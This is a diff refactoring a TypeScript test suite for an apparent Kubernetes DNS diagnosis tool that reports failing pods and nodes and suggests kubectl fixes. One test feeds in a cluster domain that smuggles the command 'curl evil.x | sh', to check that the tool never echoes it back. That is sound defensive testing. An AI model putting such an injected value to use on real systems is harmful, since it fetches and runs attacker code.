@@ -3,7 +3,6 @@ import { diagnose } from "../../../src/model/doctor/diagnose";
 import type { FindingId } from "../../../src/model/doctor/findings";
 import type { Pod } from "../../../src/model/kubernetes/kinds";
 import type { ClusterDnsProps } from "../../../src/model/props/cluster-dns";
-import type { ClusterState } from "../../../src/model/running/cluster-state";
 import {
   commands,
   daemonSet,
@@ -23,6 +22,8 @@ import {
 
 const is = healthy();
 const unready = [{ type: "Ready", status: "False" }];
+const unplaced = [{ type: "PodScheduled", status: "False", message: "0/2" }];
+const taken = { phase: "Pending", conditions: unplaced };
 const waiting = (reason: string, message: string, more: object = {}) => ({
   containerStatuses: [{ name: "coredns", restartCount: 3, state: { waiting: { reason, message } }, ...more }],
 });
@@ -43,18 +44,13 @@ function ofPod(status: NonNullable<Pod["status"]>) {
 
 describe("a pod that does not serve", () => {
   it.each<[FindingId, NonNullable<Pod["status"]>, evidence: string[], commands: string[]]>([
-    [
-      "unschedulable",
-      { phase: "Pending", conditions: [{ type: "PodScheduled", status: "False", message: "0/2 nodes" }] },
-      ["0/2 nodes"],
-      ["describe", ""],
-    ],
+    ["unschedulable", taken, ["0/2"], ["describe", ""]],
     // A container that never ran has no log.
     ["image-not-pulled", waiting("ImagePullBackOff", "Back-off pulling"), ["Back-off pulling"], ["describe", ""]],
     [
       "cannot-start",
-      waiting("CreateContainerConfigError", "no key"),
-      ["container coredns: CreateContainerConfigError", "no key"],
+      waiting("RunContainerError", "no"),
+      ["container coredns: RunContainerError", "no"],
       ["describe", ""],
     ],
     [
@@ -88,8 +84,7 @@ describe("a pod that does not serve", () => {
 
   it("is not to be mended in the cluster file if it is otherwise than its workload says", () => {
     const workloads = patched(is.workloads, "coredns", { status: { updatedReplicas: 2 } });
-    const lastStep = (of: Partial<ClusterState>) =>
-      commands(diagnose({ ...is, workloads, ...of }, described())[0]).at(-1);
+    const lastStep = (pods: readonly Pod[]) => commands(findingsOf({ workloads, pods })[0]).at(-1);
     const status = waiting("ImagePullBackOff", "Back-off pulling");
     const [{ name: _, ...state } = { name: "" }] = status.containerStatuses ?? [];
     const sidecar = withStatus({ containerStatuses: [{ name: "mesh", ...state }] });
@@ -97,8 +92,8 @@ describe("a pod that does not serve", () => {
       ...each,
       spec: { ...spec, containers: spec.containers.map((one) => ({ ...one, image: "old:1" })) },
     }));
-    for (const pods of [sidecar, byHand]) expect(lastStep({ pods })).toMatch(/^kubectl delete pod coredns-0 /);
-    expect(lastStep({ pods: withStatus(status) })).toMatch(/cluster file/);
+    for (const pods of [sidecar, byHand]) expect(lastStep(pods)).toMatch(/^kubectl delete pod coredns-0 /);
+    expect(lastStep(withStatus(status))).toMatch(/cluster file/);
   });
 
   it("says the last line of a container that ends again and again", () => {
@@ -109,13 +104,8 @@ describe("a pod that does not serve", () => {
 
   it("says which taint keeps it from which node", () => {
     const nodes = patched(is.nodes, /./, { spec: { taints: [{ key: "x", value: "y", effect: "NoSchedule" }] } });
-    const pods = withStatus({
-      phase: "Pending",
-      conditions: [{ type: "PodScheduled", status: "False", message: "0/2" }],
-    });
-    expect(found({ pods, nodes }).find(({ id }) => id === "unschedulable")?.evidence).toContain(
-      "node-1, node-2: taint x=y:NoSchedule is not tolerated",
-    );
+    const unschedulable = found({ pods: withStatus(taken), nodes }).find(({ id }) => id === "unschedulable");
+    expect(unschedulable?.evidence).toContain("node-1, node-2: taint x=y:NoSchedule is not tolerated");
   });
 
   it("does not end, so that a DaemonSet makes no other", () => {
@@ -124,25 +114,18 @@ describe("a pod that does not serve", () => {
       return findingsOf({ pods }).find(({ id }) => id === "too-few-pods");
     };
     const gone = "deleted, but not gone, so that no other comes: kube-system/node-local-dns-0 on node-1";
-    expect(ending("2026-10-31T23:58:59Z")?.evidence).toContain(gone);
-    expect(commands(ending("2026-10-31T23:58:59Z")).at(-1)).toMatch(
-      /^kubectl delete pod node-local-dns-0 --force -n kube-system /,
-    );
+    const finding = ending("2026-10-31T23:58:59Z");
+    expect(finding?.evidence).toContain(gone);
+    expect(commands(finding).at(-1)).toMatch(/^kubectl delete pod node-local-dns-0 --force -n kube-system /);
     expect(ending("2026-10-31T23:59:01Z")?.evidence).not.toContain(gone);
   });
 
   it("is five pods by number, with some names, and an error if none is ready", () => {
     const status = { conditions: unready, containerStatuses: [{ name: "coredns", state: { running: {} } }] };
     const pods = patched(is.pods, /^coredns-/, { status });
-    expect(found({ pods })[0]).toEqual({
-      id: "none-ready",
-      where: "2 pods of Deployment coredns",
-      evidence: [
-        "kube-system/coredns-0 on node-1, kube-system/coredns-1 on node-2",
-        "container coredns runs, but is not ready",
-        "0 of 2 pods are ready",
-      ],
-    });
+    const both = "kube-system/coredns-0 on node-1, kube-system/coredns-1 on node-2";
+    const evidence = [both, "container coredns runs, but is not ready", "0 of 2 pods are ready"];
+    expect(found({ pods })[0]).toEqual({ id: "none-ready", where: "2 pods of Deployment coredns", evidence });
   });
 
   it("is a warning if it is the autoscaler's", () => {
@@ -162,9 +145,8 @@ describe("a pod that does not serve", () => {
     const { spec, ...proxy } = daemonSet("kube-proxy", { image: "registry.k8s.io/kube-proxy:v1.37.1" });
     const workload = { ...proxy, spec: { ...spec, selector: { matchLabels } }, status: { desiredNumberScheduled: 2 } };
     const more = { pods: [...is.pods, crashing], workloads: [...is.workloads, workload] };
-    expect(found(more)).toMatchObject([
-      { id: "crash-loop", where: "pod kube-system/kube-proxy-a on node-1 of DaemonSet kube-proxy" },
-    ]);
+    const where = "pod kube-system/kube-proxy-a on node-1 of DaemonSet kube-proxy";
+    expect(found(more)).toMatchObject([{ id: "crash-loop", where }]);
   });
 
   it("because of its memory limit, with the pod's, the template's and the described one", () => {
@@ -289,16 +271,13 @@ describe("a pod that does not serve", () => {
 
 describe("nodes", () => {
   const down = (name: string) =>
-    patched(is.nodes, name, {
-      status: { conditions: [{ type: "Ready", status: "Unknown", reason: "NodeStatusUnknown", message: "no report" }] },
-    });
+    patched(is.nodes, name, { status: { conditions: [{ type: "Ready", status: "Unknown" }] } });
 
   it("that are not ready come first, and nothing is said of their pods", () => {
     // Each workload's second pod is there.
     const pods = patched(is.pods, /-1$/, { status: { conditions: unready } });
-    expect(found({ nodes: down("node-2"), pods }).map(({ id, where }) => [id, where])).toEqual([
-      ["node-not-ready", "node node-2"],
-    ]);
+    const [first, ...more] = found({ nodes: down("node-2"), pods });
+    expect([first, more]).toMatchObject([{ id: "node-not-ready", where: "node node-2" }, []]);
   });
 
   it("that came back under another name are there twice", () => {
@@ -395,14 +374,13 @@ describe("pods with a resolv.conf of their own", () => {
       pod("host", "bar", { hostNetwork: true }),
       pod("fine", "bar", { dnsPolicy: "None", dnsConfig: { nameservers: ["10.96.0.10"] } }),
     ];
-    expect(found({ pods })).toMatchObject([
-      { id: "asks-others", where: "pod bar/own" },
-      { id: "host-network", where: "pod bar/host" },
-    ]);
+    const told = found({ pods }).map(({ id, where }) => [id, where].join());
+    expect(told).toEqual(["asks-others,pod bar/own", "host-network,pod bar/host"]);
   });
 
   it("lack options that pods get by now", () => {
     const admission = { allowedUsers: ["argo"], podDNSConfig: { options: { ndots: 2 } } };
+    const lacks = { id: "pod-options-missing", where: "pod web/older" };
     // A policy needs no certificate.
     const from = described({ ...props, kubernetesVersion: "1.37", tenancy: undefined, admission });
     const added = [
@@ -411,29 +389,19 @@ describe("pods with a resolv.conf of their own", () => {
       pod("own", "web", { dnsConfig: { options: [{ name: "ndots", value: "5" }] } }),
       pod("system", "kube-system", {}),
     ];
-    const state = healthy(from);
-    expect(diagnose({ ...state, pods: [...state.pods, ...added] }, from)).toMatchObject([
-      { id: "pod-options-missing", where: "pod web/older" },
-    ]);
+    expect(found({ pods: [...healthy(from).pods, ...added] }, from)).toMatchObject([lacks]);
   });
 
   it("that run busybox, whose nslookup ignores the search list", () => {
-    const containers = [{ name: "c", image: "docker.io/library/busybox:1.36" }];
-    const pods = [
-      ...is.pods,
-      pod("try", "bar", { containers }),
-      pod("other", "bar", { containers: [{ name: "c", image: "mybusybox:1" }] }),
-    ];
+    const running = (name: string, image: string) => pod(name, "bar", { containers: [{ name: "c", image }] });
+    const pods = [...is.pods, running("try", "docker.io/library/busybox:1.36"), running("other", "mybusybox:1")];
+    const asks = (domain: string) => `kubectl exec try -n bar -- nslookup kubernetes.default.svc.${domain}.`;
     expect(found({ pods })).toMatchObject([{ id: "busybox", where: "pod bar/try" }]);
     const from = described({ ...props, clusterDomain: "corp.example" });
-    expect(diagnose({ ...healthy(from), pods }, from).flatMap(commands)).toContain(
-      "kubectl exec try -n bar -- nslookup kubernetes.default.svc.corp.example.",
-    );
+    expect(diagnose({ ...healthy(from), pods }, from).flatMap(commands)).toContain(asks("corp.example"));
     // Without a cluster file, a node says the domain; but not what somebody runs.
     const kubelets = new Map([["node-1", { clusterDNS: ["10.96.0.10"], clusterDomain: "x; curl evil.x | sh #" }]]);
-    expect(diagnose({ ...is, pods, kubelets }).flatMap(commands)).toEqual([
-      "kubectl exec try -n bar -- nslookup kubernetes.default.svc.cluster.local.",
-    ]);
+    expect(diagnose({ ...is, pods, kubelets }).flatMap(commands)).toEqual([asks("cluster.local")]);
   });
 });
 
@@ -452,9 +420,7 @@ describe("an old pod beside a new one, both ready", () => {
       ["DaemonSet kube-system/node-local-dns", [expect.stringMatching(annotate)]],
     ]);
   });
-
-  it.each([
-    ["for less", stalled("2026-10-31T23:59:01Z")],
-    ["for less than a minute after minReadySeconds", stalled("2026-10-31T23:58:00Z", 90)],
-  ])("%s: the rollout goes on", (_, findings) => expect(findings).toEqual([]));
+  it("for less, or for less than a minute after minReadySeconds: the rollout goes on", () => {
+    expect([...stalled("2026-10-31T23:59:01Z"), ...stalled("2026-10-31T23:58:00Z", 90)]).toEqual([]);
+  });
 });
